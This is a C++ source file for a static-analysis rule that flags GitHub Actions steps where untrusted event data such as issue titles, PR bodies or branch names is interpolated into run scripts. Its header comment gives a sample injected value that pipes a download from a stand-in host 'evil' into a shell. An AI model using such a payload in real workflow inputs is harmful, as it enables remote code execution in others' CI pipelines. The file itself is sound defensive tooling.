// CI004: `${{ }}` is expanded into the script before the shell runs it, so an
// issue title or branch name like `"; curl evil | sh #` becomes code.
#include <re2/re2.h>

#include "analyzer/ir/rule.h"
#include "rules/dep/pipeline.h"

namespace kclint {

namespace {
const RE2& untrusted() {
  static const RE2 re(
      R"(\bgithub\.(?:head_ref|event\.(?:(?:issue|pull_request|discussion)\.(?:title|body)|(?:comment|review|review_comment)\.body|pages(?:\[[^\]]*\]|\.[^.\s]+)\.page_name|(?:commits(?:\[[^\]]*\]|\.[^.\s]+)|head_commit)\.(?:message|author\.(?:email|name))|pull_request\.head\.(?:ref|label|repo\.default_branch)|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))))\b)");
  return re;
}

// env names (visible to `step`) whose value is an untrusted expression.
bool tainted_env(const Project& project, const Resource& step, const std::string& name) {
  for (const Resource* r = &step; r; r = r->parent == kNoResource ? nullptr : &project.resource(r->parent)) {
    const Value* env = r->attr("env");
    if (const Value* v = env ? env->get(name) : nullptr) {
      const std::string* src = v->unknown_source();
      return src && RE2::PartialMatch(*src, untrusted());
    }
  }
  return false;
}

void check(const Project& project, Findings& out) {
  static const RE2 expr(R"((\$\{\{\s*([^}]*?)\s*\}\}))");
  static const RE2 env_ref(R"(^env\.([A-Za-z_][A-Za-z0-9_]*)$)");
  for (const Resource* step : project.of_kind(Kind::Step)) {
    const Value* lines = step->attr("run_lines");
    if (!lines || !lines->list_value()) continue;
    for (const Value& line : *lines->list_value()) {
      std::string_view text = *line.string_value();
      re2::StringPiece input(text.data(), text.size()), whole, inner;
      while (RE2::FindAndConsume(&input, expr, &whole, &inner)) {
        std::string name;
        bool direct = RE2::PartialMatch(inner, untrusted());
        if (!direct && !(RE2::FullMatch(inner, env_ref, &name) && tainted_env(project, *step, name))) continue;
        std::size_t at = static_cast<std::size_t>(whole.data() - text.data());
        out.report(dep::sub_span(line, at, at + whole.size()),
                   "'{}' is interpolated into the run script{}; pass it through an environment variable and quote it "
                   "(\"$VAR\")", std::string_view(whole.data(), whole.size()), direct ? "" : " (its env value is untrusted input)")
            .key = step->address;
      }
    }
  }
}
}  // namespace

extern const Rule kScriptInjection{
    .id = "CI004",
    .name = "script-injection",
    .summary = "Untrusted event data must not be interpolated into run scripts",
    .level = Level::Error,
    .family = Family::Ci,
    .tags = {"security", "github-actions", "injection"},
    .security_severity = 8.0,
    .check = check};

}  // namespace kclint
